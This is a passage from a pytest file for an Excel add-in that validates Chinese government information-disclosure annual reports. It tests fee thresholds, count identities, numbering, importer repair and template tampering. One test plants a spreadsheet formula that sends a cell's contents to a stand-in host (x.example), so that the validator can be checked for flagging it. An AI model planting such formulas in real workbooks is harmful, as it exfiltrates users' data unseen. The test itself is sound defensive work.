"""Rules pinned at their edges: each test fails when a rule is changed in a way a clerk would notice (a
threshold moved by one, a term forgotten, a repair guessing). Pure core (no workbook written): these are also the
tests `make mutation` runs against every mutant of catalogue.py, rules.py, expr.py and derive.py.

The importer tests (named ``digit_join``) read the seed report of ../shared and are left out of the mutation run.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import json
import re
from functools import cache
from typing import Any

import pytest
from conftest import shared_file

from xl_addin import api, catalogue, derive, expr, fingerprint, live, rules, spec, structure
from xl_addin.importers import document, parse
from xl_addin.model import IMPORT_PROPS_KEY, CellValue, Finding, Report, ReportData, Severity, Structure

FEE = "t2.fees.amount"


@cache
def _sample() -> dict[str, CellValue]:
    return dict(api.sample_values())


def data(changes: dict[str, Any] | None = None, *, prior: dict[str, CellValue] | None = None,
         formulas: dict[str, str] | None = None, missing: frozenset[str] = frozenset()) -> ReportData:
    """The bundled sample as a reader gives it for an untouched template, with ``changes`` typed in."""
    values = {**_sample(), **(changes or {})}
    return ReportData(values=values, formulas={**structure.expected().formulas, **(formulas or {})},
                      prior=prior or {}, missing=missing)


def check(changes: dict[str, Any] | None = None, **kw: Any) -> Report:
    return api.check_data(data(changes, **kw))


def at(key: str) -> str:
    return spec.LAYOUT.locations[key].a1


def codes(report: Report, rule: str) -> list[tuple[str, str, str]]:
    """(catalogue code, sheet, cell) of the findings of ``rule``."""
    return sorted((f.code, f.sheet, f.cell) for f in report.findings if f.rule == rule)


def one(report: Report, rule: str) -> Finding:
    found = report.by_rule(rule)
    assert len(found) == 1, [f.message for f in report.findings]
    return found[0]


def test_the_sample_read_as_data_has_no_finding() -> None:
    assert check().findings == ()


# ---- V2.yuan: at or above 1000 万元 the fee looks typed in 元 ---------------------------------------------------------

def test_a_fee_of_exactly_1000_wan_yuan_is_a_warning_that_it_was_typed_in_yuan() -> None:
    f = one(check({FEE: 1000}), "V2")
    assert (f.code, f.severity, f.sheet, f.cell) == ("V2.yuan", Severity.WARNING, "表二", at(FEE))
    assert "1000" in f.message and f.check == "V2:t2.fees.amount:yuan"
    assert catalogue.CATALOGUE["V2.yuan"].title.endswith("（≥1000万元）")


@pytest.mark.parametrize("fee", [999.9999, 999, 0, 0.5, 12.3456])
def test_a_fee_below_1000_wan_yuan_is_accepted(fee: float) -> None:
    assert codes(check({FEE: fee}), "V2") == []


@pytest.mark.parametrize("fee", [1000.5, 3500, 1e7])
def test_a_fee_above_1000_wan_yuan_is_the_same_warning(fee: float) -> None:
    assert codes(check({FEE: fee}), "V2") == [("V2.yuan", "表二", at(FEE))]


# ---- V2.yuan of a published report: by its scope and level (issue 21 class 5) ----------------------------------------

def published(changes: dict[str, Any], *, scope: str | None = None, imported: bool = True) -> Report:
    """The sample as a published report (import props present) or a workbook told its scope by the roster."""
    props = {IMPORT_PROPS_KEY: json.dumps({"format": "2021"})} if imported else {}
    if scope is not None:
        props[rules.SCOPE_PROPS_KEY] = scope
    return api.check_data(dataclasses.replace(data(changes), props=props))


def test_the_yuan_thresholds_by_scope_and_level_are_pinned() -> None:
    bars = catalogue.YUAN_THRESHOLD_BY_SCOPE
    assert [bars[("本级", lv)] for lv in spec.LEVELS] == [100_000, 10_000, 1000, 1000]
    assert [bars[("汇总", lv)] for lv in spec.LEVELS] == [10_000_000, 1_000_000, 100_000, 10_000]
    assert catalogue.yuan_threshold("汇总", "县级") == 100_000
    assert catalogue.yuan_threshold("汇总", "") == 10_000_000  # unknown level: the largest bar of the scope
    assert catalogue.yuan_threshold("", "县级") == 100_000  # unknown scope: the larger of the level's
    assert catalogue.yuan_threshold("", "") == 10_000_000
    assert catalogue.YUAN_MAX_DECIMALS == 2


@pytest.mark.parametrize(("scope", "level", "quiet", "loud"), [
    ("汇总", "县级", 99_999.99, 100_000), ("汇总", "市级", 999_999.99, 1_000_000), ("本级", "县级", 999.99, 1000),
    ("本级", "市级", 9999.99, 10_000), ("本级", "乡级", 999.99, 1000),
])
def test_a_published_fee_is_judged_by_the_bar_of_its_scope_and_level(scope: str, level: str, quiet: float,
                                                                     loud: float) -> None:
    assert codes(published({FEE: quiet, "meta.level": level}, scope=scope), "V2") == []
    assert codes(published({FEE: loud, "meta.level": level}, scope=scope), "V2") == [("V2.yuan", "表二", at(FEE))]
    # a workbook whose scope the roster gives is judged by the same bar
    assert codes(published({FEE: quiet, "meta.level": level}, scope=scope, imported=False), "V2") == []


def test_a_published_fee_with_more_decimals_than_yuan_has_is_wan_yuan() -> None:
    assert codes(published({FEE: 1234.567}), "V2") == []  # 元 has 角 and 分 only
    assert codes(published({FEE: 1234.56}), "V2") == [("V2.yuan", "表二", at(FEE))]  # a 本级 county department
    assert codes(check({FEE: 1234.567}), "V2") == [("V2.yuan", "表二", at(FEE))]  # a workbook: as its formula says


def test_a_government_report_counting_its_region_is_huizong_for_the_fee() -> None:
    gov = {"meta.kind": "人民政府", FEE: 7730.28, "s1.on_request": "2023年全区受理政府信息公开申请1件。"}
    assert codes(published(gov), "V2") == []  # 淮安市洪泽区 2023: 7730.28 万元, real
    # a 人民政府 of unknown scope: the larger bar of its level (precision first)
    assert codes(published({**gov, "s1.on_request": "受理政府信息公开申请1件。"}), "V2") == []
    assert codes(published({**gov, FEE: 100_000}), "V2") == [("V2.yuan", "表二", at(FEE))]
    # a department's report is 本级: the county bar
    assert codes(published({**gov, "meta.kind": "政府部门"}), "V2") == [("V2.yuan", "表二", at(FEE))]


# ---- X2: 现行有效件数 = last year's + 本年制发 - 本年废止 -------------------------------------------------------------------

ROW = "t2.normative"


def x2(made: int, repealed: int, in_force: int, last_year: int) -> Report:
    return check({f"{ROW}.made": made, f"{ROW}.repealed": repealed, f"{ROW}.in_force": in_force},
                 prior={f"{ROW}.in_force": last_year})


def test_x2_holds_when_this_years_figure_is_last_years_plus_made_minus_repealed() -> None:
    assert codes(x2(made=2, repealed=1, in_force=6, last_year=5), "X2") == []


def test_x2_counts_the_documents_repealed_this_year() -> None:
    """Forgetting 本年废止 would accept 7 (= 5 + 2) here and flag the right 6 above."""
    f = one(x2(made=2, repealed=1, in_force=7, last_year=5), "X2")
    assert (f.code, f.severity, f.sheet, f.cell) == ("X2", Severity.WARNING, "表二", at(f"{ROW}.in_force"))
    assert f.check == "X2:normative"
    assert f.message == "“行政规范性文件”现行有效件数 7 不等于上年现行有效件数＋本年制发件数－本年废止件数＝6，请核对。"


@pytest.mark.parametrize(("made", "repealed", "in_force"), [(0, 3, 2), (4, 0, 9)])
def test_x2_each_term_counts(made: int, repealed: int, in_force: int) -> None:
    assert codes(x2(made, repealed, in_force, last_year=5), "X2") == []
    assert codes(x2(made, repealed, in_force + 1, last_year=5), "X2") == [("X2", "表二", at(f"{ROW}.in_force"))]
    assert codes(x2(made, repealed, in_force - 1, last_year=5), "X2") == [("X2", "表二", at(f"{ROW}.in_force"))]


def test_x2_needs_last_years_figure() -> None:
    assert codes(check({f"{ROW}.made": 2, f"{ROW}.in_force": 40}), "X2") == []


# ---- T9: a narrative that starts with its own numbering (the 正文 sheet has no colour for it: see test below) ------

#: text -> the numbering T9 names ("" = not numbering, T9 stays quiet)
T9_TEXTS = {
    "公开、透明是政务公开的基本要求。本机关全年主动公开信息57条。": "",
    "（注：本年度无收费。）本机关未收取信息处理费。": "",
    "1.本年度主动公开政府信息57条。": "1.",
    "二．政府信息管理情况。本机关按要求清理规范性文件。": "二．",
    "（二）政府信息管理。本机关按要求清理规范性文件。": "（二）",
    "(3)平台建设。依托门户网站公开。": "(3)",
    "十一、其他事项。无。": "十一、",
    "　　（一）主动公开。本机关主动公开信息57条。": "（一）",
    "2、依申请公开。全年收到申请2件。": "2、",
    "1.5万元的信息处理费已全部退还。": "",
    "2023年本机关主动公开政府信息57条。": "",
    "一是强化组织领导。二是完善制度。": "",
    "100.本年度主动公开政府信息。": "",
}


@pytest.mark.parametrize(("text", "prefix"), list(T9_TEXTS.items()))
def test_t9_names_exactly_the_pasted_numbering(text: str, prefix: str) -> None:
    report = check({"s1.platform": text})
    found = [(f.cell, f.values["prefix"], f.severity) for f in report.by_rule("T9")]
    assert found == ([(at("s1.platform"), prefix, Severity.WARNING)] if prefix else [])
    if prefix:
        assert f"以“{prefix}”开头" in report.by_rule("T9")[0].message


def test_the_narrative_sheet_has_no_colour_that_could_disagree_with_t9(tmp_path: Any) -> None:
    """The 正文 sheet used to colour a cell amber by its own, different idea of numbering; T9 is the validator's
    alone now (the 校验 button marks the cell it names), so no conditional format is left on that sheet."""
    import openpyxl

    out = api.put(api.build_template(tmp_path / "t.xlsx"), {"s1.platform": "1.本年度主动公开政府信息57条。"},
                  tmp_path / "filled.xlsx")
    wb = openpyxl.load_workbook(out)
    assert list(wb[spec.NARRATIVE_SHEET].conditional_formatting) == []
    assert [f.cell for f in api.check(out).by_rule("T9")] == [at("s1.platform")]


# ---- the importer's digit-join repair: only when exactly one reading balances ---------------------------------------

SEED_REPORT = "examples/jiangle-industry-bureau-2023.txt"
_VALUE_LINE = re.compile(r"^\t\d+$")


def _import(lines: list[str]) -> parse.Imported:
    return parse.parse(document.from_text("\n".join(lines), source="pins.txt"))


def _seed_lines() -> list[str]:
    return shared_file(SEED_REPORT).read_text(encoding="utf-8").split("\n")


def test_digit_join_in_table_three_only_when_one_reading_balances() -> None:
    lines = _seed_lines()
    i = lines.index("\t一、本年新收政府信息公开申请数量")
    # 8 numbers for 7 cells: "1 1" -> 11, "1 1" -> 11 (the next pair) and "1 0" -> 10 all balance against 12
    lines[i + 1:i + 8] = ["\t1", "\t1", "\t1", "\t0", "\t0", "\t0", "\t0", "\t12"]
    imp = _import(lines)
    assert not [n for n in imp.notes if n.kind == "split"]
    (note,) = [n for n in imp.notes if n.kind == "count" and n.key.startswith("t3.new.")]
    assert "读到 8 个数，应为 7 个" in note.message
    # no guess (the "last 7" were a shifted row): the row is unread, its cells empty, and said so (contract U)
    assert [imp.data.values.get(f"t3.new.{c}") for c, _ in spec.T3_COLS] == [None] * 7
    assert [(u.table, u.what) for u in imp.unread] == [("t3", "row")]


def test_digit_join_in_table_four_only_when_one_reading_balances() -> None:
    lines = _seed_lines()
    head = lines.index("四、政府信息公开行政复议、行政诉讼情况")
    j = next(k for k in range(head, len(lines)) if all(_VALUE_LINE.match(x) for x in lines[k:k + 15]))
    # 16 numbers for 15 cells; joining the first, second or third pair each balances 行政复议 against its 12
    lines[j:j + 15] = ["\t1", "\t1", "\t1", "\t0", "\t0", "\t12", *["\t0"] * 10]
    imp = _import(lines)
    assert not [n for n in imp.notes if n.kind == "split"]
    assert any(n.kind == "count" and "表四读到 16 个数" in n.message for n in imp.notes)
    # no guess: the 16 numbers do not fit table 四's 15 cells -- the table is unread, its cells empty, said so
    assert [imp.data.values.get(f"t4.review.{c}") for c, _ in spec.T4_RESULTS] == [None] * 5
    assert [(u.table, u.what) for u in imp.unread] == [("t4", "table")]


def test_digit_join_when_only_one_reading_balances() -> None:
    lines = _seed_lines()
    i = lines.index("\t一、本年新收政府信息公开申请数量")
    lines[i + 1:i + 8] = ["\t1", "\t2", "\t0", "\t0", "\t0", "\t0", "\t0", "\t12"]
    imp = _import(lines)
    (note,) = [n for n in imp.notes if n.kind == "split"]
    assert "合为 12" in note.message
    assert imp.data.values["t3.new.natural"] == 12


# ---- the structure a reader reports: pristine, then tampered the ways S2 names --------------------------------------

def pristine() -> Structure:
    """What the fast reader reports for an untouched template (labels as written, before line breaks)."""
    exp = structure.expected()
    validations: dict[str, dict[str, str]] = {}
    for (sheet, a1), kind in structure.expected_validations().items():
        validations.setdefault(sheet, {})[a1] = kind
    return Structure(sheets=(*structure.OWNED_SHEETS, spec.SUMMARY_SHEET, "校验结果", spec.HIDDEN_SHEET),
                     labels=dict(exp.labels), merges=dict(exp.merges), unlocked=dict(exp.unlocked),
                     sheet_protected={s: True for s in structure.OWNED_SHEETS}, structure_locked=True,
                     fingerprint=fingerprint.fingerprint(), live=live.formula_cells(), validations=validations)


PROPS = {"template_id": spec.TEMPLATE_ID, "format_version": spec.FORMAT_VERSION, "layout_version": "2"}


def s2(st: Structure | None = None, *, props: dict[str, str] | None = None, **kw: Any) -> list[Finding]:
    d = data(kw.pop("changes", None), **kw)
    d = dataclasses.replace(d, structure=st or pristine(), props={**PROPS, **(props or {})})
    return api.check_data(d).by_rule("S2")


def s2_codes(findings: list[Finding]) -> list[tuple[str, str, str]]:
    return [(f.code, f.sheet, f.cell) for f in findings]


def test_a_pristine_structure_has_no_s2_finding() -> None:
    assert s2() == []


def test_a_deleted_sheet_is_named() -> None:
    st = pristine()
    (f,) = s2(dataclasses.replace(st, sheets=tuple(s for s in st.sheets if s != "表四")),
              missing=frozenset(k for k in spec.ALL_KEYS if spec.LAYOUT.locations[k].sheet == "表四"))
    assert (f.code, f.sheet, f.cell, f.severity) == ("S2.sheet", "表四", "", Severity.ERROR)
    assert f.message == "缺少工作表“表四”，请使用原模板重新填报。"


def test_a_renamed_sheet_is_named_by_both_names() -> None:
    st = pristine()
    moved = {k: dataclasses.replace(loc, sheet="申请情况") if loc.sheet == "表三" else loc
             for k, loc in spec.LAYOUT.locations.items()}
    d = dataclasses.replace(data(), locations=moved, structure=dataclasses.replace(
        st, sheets=tuple("申请情况" if s == "表三" else s for s in st.sheets)), props=PROPS)
    (f,) = api.check_data(d).by_rule("S2")
    assert (f.code, f.sheet, f.severity) == ("S2.renamed", "申请情况", Severity.WARNING)
    assert f.message == "工作表“表三”被改名为“申请情况”，请改回原名。"


def test_a_changed_label_is_reported_with_both_texts_and_a_line_break_is_no_change() -> None:
    st = pristine()
    (at_, text), (at2, text2) = list(st.labels.items())[5:7]
    labels = {**st.labels, at_: text + "（改）", at2: f" {text2[:1]}\n{text2[1:]} "}
    (f,) = s2(dataclasses.replace(st, labels=labels))
    assert (f.code, f.sheet, f.cell) == ("S2.label", *at_)
    assert f.message == f"表格文字被改动：应为“{text}”，现为“{text}（改）”。官方表格不得改动，请改回或使用原模板。"
    gone = {k: v for k, v in st.labels.items() if k != at_}  # a label the reader could not see is not judged
    assert s2(dataclasses.replace(st, labels=gone)) == []


def test_merges_lost_and_added_are_listed() -> None:
    st = pristine()
    lost = sorted(st.merges["表三"])[0]
    merges = {**st.merges, "表三": (st.merges["表三"] - {lost}) | {"D9:E9"}}
    (f,) = s2(dataclasses.replace(st, merges=merges))
    assert (f.code, f.sheet, f.cell) == ("S2.merge", "表三", lost)
    assert f"（缺少 {lost}；多出 D9:E9）" in f.message
    (f,) = s2(dataclasses.replace(st, merges={**st.merges, "表三": st.merges["表三"] | {"D9:E9"}}))
    assert (f.cell, "（多出 D9:E9）" in f.message) == ("D9:E9", True)


def test_a_locked_input_and_an_unlocked_label_are_listed() -> None:
    st = pristine()
    first = sorted(st.unlocked["表三"])[0]
    unlocked = {**st.unlocked, "表三": (st.unlocked["表三"] - {first}) | {"A1"}}
    (f,) = s2(dataclasses.replace(st, unlocked=unlocked))
    assert (f.code, f.sheet, f.cell) == ("S2.unlocked", "表三", first)
    assert f"（填报单元格被锁定 {first}；表格单元格被解锁 A1）" in f.message
    (f,) = s2(dataclasses.replace(st, unlocked={**st.unlocked, "表二": st.unlocked["表二"] | {"A1"}}))
    assert (f.sheet, f.cell, "（表格单元格被解锁 A1）" in f.message) == ("表二", "A1", True)


def test_protection_taken_off_says_which() -> None:
    st = pristine()
    (f,) = s2(dataclasses.replace(st, sheet_protected={**st.sheet_protected, "表三": False}))
    assert (f.code, f.severity) == ("S2.protection", Severity.WARNING)
    assert "（工作表 表三）" in f.message
    (f,) = s2(dataclasses.replace(st, structure_locked=False))
    assert "（工作簿结构）" in f.message
    (f,) = s2(dataclasses.replace(st, structure_locked=False,
                                  sheet_protected={**st.sheet_protected, "表二": False, "表四": False}))
    assert "（工作表 表二、表四；工作簿结构）" in f.message


def test_another_builds_fingerprint_is_a_warning_with_both() -> None:
    st = pristine()
    (f,) = s2(dataclasses.replace(st, fingerprint="0123456789abcdef"))
    assert (f.code, f.severity) == ("S2.fingerprint", Severity.WARNING)
    assert f.message == f"模板版本与本工具不一致（文件 0123456789abcdef，本工具 {fingerprint.fingerprint()}），请使用最新模板。"
    assert s2(dataclasses.replace(st, fingerprint=None)) == []


def test_content_far_outside_the_grid_is_named() -> None:
    (f,) = s2(dataclasses.replace(pristine(), outside={"表三": ("XFD1048576", "A5000")}))
    assert (f.code, f.sheet, f.cell) == ("S2.outside", "表三", "XFD1048576")
    assert "（XFD1048576、A5000）" in f.message


def test_the_hidden_sheet_missing_or_changed() -> None:
    st = pristine()
    (f,) = s2(dataclasses.replace(st, sheets=tuple(s for s in st.sheets if s != spec.HIDDEN_SHEET)))
    assert (f.code, f.sheet, f.cell) == ("S2.hidden", spec.HIDDEN_SHEET, "") and f"“{spec.HIDDEN_SHEET}”缺失" in f.message
    (f,) = s2(props={"template_id": "other"})
    assert f"被改动（template_id 应为“{spec.TEMPLATE_ID}”，现为“other”）" in f.message
    (f,) = s2(props={"format_version": "2019", "layout_version": "x"})
    assert f"被改动（format_version 应为“{spec.FORMAT_VERSION}”，现为“2019”；layout_version 应为“1”或“2”，现为“x”）" \
        in f.message
    assert s2(props={"layout_version": "3"}) == []  # a newer build's template is no damage


def test_a_changed_live_formula_is_named_but_another_spelling_is_not() -> None:
    st = pristine()
    (at_, _), (at2, formula2) = list(st.live.items())[:2]
    changed = {**st.live, at_: "本表校验通过", at2: formula2.replace("IF(", "if( ")}
    (f,) = s2(dataclasses.replace(st, live=changed))
    assert (f.code, f.sheet, f.cell) == ("S2.live", *at_)
    assert f"（{at_[0]}!{at_[1]}）" in f.message
    # another build's formulas differ anyway: S2.fingerprint says so, not S2.live
    assert s2_codes(s2(dataclasses.replace(st, live=changed, fingerprint="0123456789abcdef"))) == \
        [("S2.fingerprint", "", "")]


def test_dropped_validations_are_counted() -> None:
    st = pristine()
    cells = sorted(st.validations["表三"], key=lambda a1: spec.cell_index(a1))
    kept = {a1: k for a1, k in st.validations["表三"].items() if a1 not in cells[:8]}
    (f,) = s2(dataclasses.replace(st, validations={**st.validations, "表三": kept}))
    assert (f.code, f.sheet, f.cell) == ("S2.validation", "表三", cells[0])
    assert f"（表三 {'、'.join(cells[:6])} 等 8 处）" in f.message


def test_deleted_names_are_counted() -> None:
    (f,) = s2(dataclasses.replace(pristine(), unnamed=frozenset({"t3.new.natural", "t2.fees.amount"})))
    assert f.code == "S2.names"
    assert f.message.startswith("模板的命名单元格有 2 个被删除或改动（xa_t2_fees_amount、xa_t3_new_natural）")


def test_a_total_overwritten_or_its_formula_changed() -> None:
    key = "t3.new.total"
    (f,) = s2(changes={key: 7}, formulas={key: "=SUM(D7:H7)"})
    assert (f.code, f.cell) == ("S2.formula", at(key)) and "现为“=SUM(D7:H7)”" in f.message
    d = data({key: 7})
    d = dataclasses.replace(d, formulas={k: v for k, v in d.formulas.items() if k != key})
    (f,) = api.check_data(d).by_rule("S2")
    assert (f.code, f.cell, f.severity) == ("S2.literal", at(key), Severity.WARNING)
    assert "（现为“7”）" in f.message
    missing = api.check_data(dataclasses.replace(d, missing=frozenset({key}))).by_rule("S2")
    assert missing == []



@pytest.mark.parametrize("key", ["t3.new.natural", "meta.agency", "s1.proactive"])
def test_a_formula_in_an_input_cell_is_named_with_its_label_cell_and_formula(key: str) -> None:
    """S2.input (issue 19, item 14): a formula typed into a cell the clerk fills, in a table, 基本信息 or 正文."""
    formula = '=WEBSERVICE("http://x.example/?"&B3)'
    (f,) = s2(formulas={key: formula})
    where = spec.LAYOUT.locations[key]
    assert (f.code, f.sheet, f.cell, f.severity) == ("S2.input", where.sheet, where.a1, Severity.ERROR)
    label = " ".join(x for x in spec.labels_of(key) if x)
    assert f"“{label}”（工作表“{where.sheet}”{where.a1}）中是公式“{formula}”" in f.message, f.message


def test_a_formula_in_an_input_cell_the_layout_lacks_is_not_named() -> None:
    key = "s1.overview"
    d = data(formulas={key: "=1+1"}, missing=frozenset({key}))
    d = dataclasses.replace(d, structure=pristine(), props=PROPS)
    assert [f.code for f in api.check_data(d).by_rule("S2")] == []


def test_two_formulas_in_input_cells_are_two_findings() -> None:
    found = s2(formulas={"t3.new.natural": "=1", "t3.new.business": "=2"})
    assert sorted(f.cell for f in found) == sorted([at("t3.new.natural"), at("t3.new.business")])


@pytest.mark.parametrize(("year", "deadline"), [(spec.YEAR_MIN, dt.date(spec.YEAR_MIN + 1, 1, 31)),
                                                (spec.YEAR_MAX, dt.date(spec.YEAR_MAX + 1, 1, 31)),
                                                (spec.YEAR_MIN - 1, None), (spec.YEAR_MAX + 1, None)])
def test_a_deadline_exists_exactly_for_the_years_the_template_accepts(year: int, deadline: dt.date | None) -> None:
    assert rules.deadline(year, "政府部门") == deadline


# ---- values: V1, V2, V3, V4, V5 ------------------------------------------------------------------------------------

CELL = "t3.refused_third_party.business"


@pytest.mark.parametrize(("value", "hint"), [
    ("/", "没有的请填0，不要填“/”“无”等符号。"), ("无", "没有的请填0，不要填“/”“无”等符号。"),
    ("—", "没有的请填0，不要填“/”“无”等符号。"), ("１２", "单元格中是文本格式的数字，请删除后重新输入数字。"),
    ("1,200", "单元格中是文本格式的数字，请删除后重新输入数字。"), ("三件", "请删除文字，只填写数字；没有的填0。"),
    (True, "请填写数字。"), (-1, "件数不能为负数。"), (-0.5, "件数不能为负数。"), (2.5, "件数不能有小数，请填写整数。"),
    (0.5, "件数不能有小数，请填写整数。"), ("／", "没有的请填0，不要填“/”“无”等符号。"),
    ("-", "没有的请填0，不要填“/”“无”等符号。"), ("－", "没有的请填0，不要填“/”“无”等符号。"),
    (dt.date(2023, 5, 1), "请填写数字。"),
])
def test_v1_says_what_is_wrong_with_a_count_and_how_to_fix_it(value: Any, hint: str) -> None:
    f = one(check({CELL: value}), "V1")
    assert (f.code, f.severity, f.sheet, f.cell) == ("V1", Severity.ERROR, "表三", at(CELL))
    shown = str(value) if not isinstance(value, dt.date) else "2023-05-01"
    assert f.message == ("“（三）不予公开 4.保护第三方合法权益”“法人或其他组织 商业企业”应填写不小于0的整数（单位：件），"
                         f"现为“{shown}”。{hint}")
    assert f.labels == ("（三）不予公开 4.保护第三方合法权益", "法人或其他组织 商业企业")
    assert f.check == f"V1:{CELL}"


@pytest.mark.parametrize("value", [0, 7, 7.0, None])
def test_v1_accepts_whole_numbers_and_blank(value: Any) -> None:
    assert check({CELL: value}).by_rule("V1") == []


def test_a_long_text_is_quoted_shortened() -> None:
    text = "本年度" * 20
    f = one(check({CELL: text}), "V1")
    assert f"现为“{text[:40]}……（共 60 字）”" in f.message
    f = one(check({CELL: "本年度" * 13 + "无"}), "V1")  # 40 characters: quoted whole
    assert "现为“" + "本年度" * 13 + "无”" in f.message


@pytest.mark.parametrize(("fee", "shown"), [(-1, "-1"), (0.12345, "0.12345"), ("免收", "免收"), (True, "True")])
def test_v2_a_bad_fee_is_an_error_with_the_fix(fee: Any, shown: str) -> None:
    f = one(check({FEE: fee}), "V2")
    assert (f.code, f.severity, f.cell) == ("V2", Severity.ERROR, at(FEE))
    assert f.message == ("“行政事业性收费”本年收费金额应为不小于0、最多4位小数的数字（单位：万元），"
                         f"现为“{shown}”。没有收费的请填0。")


def test_v2_a_fee_of_1000_0_reads_as_1000() -> None:
    f = one(check({FEE: 1000.0}), "V2")
    assert "本年收费金额为 1000 万元" in f.message


def test_v3_names_the_blank_cells_of_each_row() -> None:
    keys = [f"t3.new.{c}" for c, _ in spec.T3_COLS if c != "total"]
    found = check({k: None for k in keys[:2]} | {"t2.fees.amount": None}).by_rule("V3")
    got = {(f.sheet, f.cell, f.check): f.message for f in found}
    a, b = at(keys[0]), at(keys[1])
    assert got[("表三", f"{a}:{b}", f"V3:{keys[0]}")] == \
        f"“一、本年新收政府信息公开申请数量”有 2 个单元格未填写（{a}、{b}）。空白按0计算，但公布的表格应显示0，没有的请填0。"
    fee = [m for (s, c, _), m in got.items() if c == at(FEE)]
    assert len(got) == 2 and fee and "有 1 个单元格未填写" in fee[0]
    (f,) = check({k: None for k in keys}).by_rule("V3")
    assert f"有 6 个单元格未填写（{at(keys[0])} 至 {at(keys[-1])}）" in f.message
    assert all(f.severity is Severity.WARNING for f in found)


def test_v3_leaves_cells_holding_formulas_or_missing_alone() -> None:
    key = "t3.new.natural"
    assert check({key: None}, missing=frozenset({key})).by_rule("V3") == []
    assert check({key: None}, formulas={key: "=1"}).by_rule("V3") == []


@pytest.mark.parametrize(("level", "key", "value", "bound"), [
    ("乡级", "t3.new.natural", 10_001, "10,000"), ("县级", "t3.new.natural", 100_001, "100,000"),
    ("乡级", "t2.licensing.count", 1_000_001, "1,000,000"), ("", "t3.new.natural", 10_000_001, "10,000,000"),
])
def test_v5_a_count_too_large_for_the_level(level: str, key: str, value: int, bound: str) -> None:
    f = one(check({key: value, "meta.level": level}), "V5")
    assert (f.cell, f.severity) == (at(key), Severity.WARNING)
    assert f"为 {value}，对{level or '省级'}机关而言大得不合常理（一般不超过 {bound}）" in f.message
    assert check({key: int(bound.replace(",", "")), "meta.level": level}).by_rule("V5") == []


def test_v4_rules_made_by_a_county() -> None:
    f = one(check({"t2.rules.made": 2, "t2.rules.in_force": 0, "t2.rules.repealed": 0, "meta.level": "县级"}), "V4")
    assert (f.cell, f.message) == (at("t2.rules.made"), "本机关层级为“县级”，无规章制定权，“规章”“本年制发件数”一般应为0，"
                                   "现为 2。请核对是否把行政规范性文件误填在规章行。")
    assert check({"t2.rules.made": 2, "t2.rules.in_force": 2, "meta.level": "市级"}).by_rule("V4") == []


# ---- identities: A1-A6 at their cells, with the numbers -------------------------------------------------------------

def test_a3_names_both_sides_and_the_difference() -> None:
    f = next(f for f in check({"t3.new.research": 2}).by_rule("A3") if f.cell == at("t3.carried_out.research"))
    assert f.message.startswith("“法人或其他组织 科研机构”列不符合勾稽关系：一、本年新收＋二、上年结转＝2，"
                                "而（七）总计＋四、结转下年度继续办理＝0，相差 2。")
    assert f.check == "A3:research" and f.labels == ("", "法人或其他组织 科研机构")


def test_a6_made_may_equal_in_force_plus_repealed_but_not_exceed_it() -> None:
    base = {"t2.normative.made": 3, "t2.normative.repealed": 1}
    assert check({**base, "t2.normative.in_force": 2}).by_rule("A6") == []
    f = one(check({**base, "t2.normative.in_force": 1}), "A6")
    assert f.message == "“行政规范性文件”本年制发件数 3 大于现行有效件数与本年废止件数之和 2，请核对。"


@pytest.mark.parametrize(("new", "carried", "fires"), [(11, 3, True), (12, 3, False), (3, 3, True), (7, 2, False)])
def test_a5_more_than_a_quarter_carried_over(new: int, carried: int, fires: bool) -> None:
    changes = {"t3.new.natural": new, "t3.carried_out.natural": carried, "t3.granted.natural": new - carried}
    found = check(changes).by_rule("A5")
    assert bool(found) is fires
    if fires:
        assert found[0].message.startswith(f"四、结转下年度继续办理（{carried} 件）占本年新收（{new} 件）")


# ---- text rules: T1, T7, T8, X3; dates and identity: P1, S4 ---------------------------------------------------------

def test_t1_a_quoted_number_that_differs_names_the_table_cells() -> None:
    f = one(check({"s1.on_request": "本年度共收到政府信息公开申请99件。"}), "T1")
    assert (f.cell, f.check) == (at("s1.on_request"), "T1:s1.on_request:new")
    assert f.message == ("“依申请公开”中写“本年度共收到政府信息公开申请99件。”，即本年新收的政府信息公开申请 99 件，"
                         "而表三“一、本年新收政府信息公开申请数量 总计”为 1 件，两者应一致。请核对文字或表格。")
    assert check({"s1.on_request": "本年度共收到政府信息公开申请1件。"}).by_rule("T1") == []


def test_t1_a_total_overwritten_blank_counts_as_the_rows_sum() -> None:
    d = data({"s1.on_request": "本年度共收到政府信息公开申请5件。", "t3.new.total": None})
    d = dataclasses.replace(d, formulas={k: v for k, v in d.formulas.items() if k != "t3.new.total"})
    (f,) = api.check_data(d).by_rule("T1")  # the rows add up to 1: a blank printed total is no 0
    assert "总计”为 1 件" in f.message
    right = dataclasses.replace(d, values={**d.values, "s1.on_request": "本年度共收到政府信息公开申请1件。"})
    assert api.check_data(right).by_rule("T1") == []


def test_t1_names_a_sum_of_several_cells() -> None:
    f = one(check({"s1.on_request": "本年度共收到政府信息公开申请1件，上年结转申请3件。"}), "T1")
    assert "表三“二、上年结转政府信息公开申请数量 总计”为 0 件" in f.message


@pytest.mark.parametrize(("text", "said"), [
    ("2022年1月1日至12月31日，本机关主动公开政府信息57条。", 2022),
    ("2023年1月1日至2022年12月31日，本机关主动公开。", 2022),
    ("2022年，本机关主动公开政府信息57条。", 2022),
    ("本年度（2021年）主动公开政府信息57条。", 2021),
])
def test_t7_a_year_that_is_not_the_reports(text: str, said: int) -> None:
    f = one(check({"s1.proactive": text}), "T7")
    assert (f.cell, f.check, f.values["said"]) == (at("s1.proactive"), "T7:s1.proactive", said)
    assert f.message.startswith(f"第一部分“主动公开”写的是 {said} 年（“")
    assert f.message.endswith("而本报告为 2023 年度报告。请核对是否沿用了往年的文字。")
    assert check({"s1.proactive": text.replace(str(said), "2023")}).by_rule("T7") == []


def test_t8_all_done_while_some_are_carried_over() -> None:
    changes = {"t3.new.natural": 2, "t3.granted.natural": 1, "t3.carried_out.natural": 1}
    text = "本年度共收到申请2件，所有申请均已办结。"
    f = one(check({**changes, "s1.on_request": text}), "T8")
    assert (f.cell, f.values["quote"], f.values["carried"]) == (at("s1.on_request"), text, 1)
    assert check({**changes, "s1.on_request": "2022年度的申请均已办结。"}).by_rule("T8") == []
    assert check({**changes, "s1.on_request": "本年度各项工作均已办结。"}).by_rule("T8") == []
    assert check({"s1.on_request": text}).by_rule("T8") == []  # nothing carried over: no contradiction
    f = one(check({**changes, "s5.problems": "第一句。本年度申请无结转下年度；其他。"}), "T8")
    assert f.values["quote"] == "本年度申请无结转下年度；"


LONG = "本机关坚持以公开为常态、不公开为例外，全面推进决策、执行、管理、服务、结果公开，主动公开政府信息。" * 2


def test_x3_a_section_copied_from_last_year() -> None:
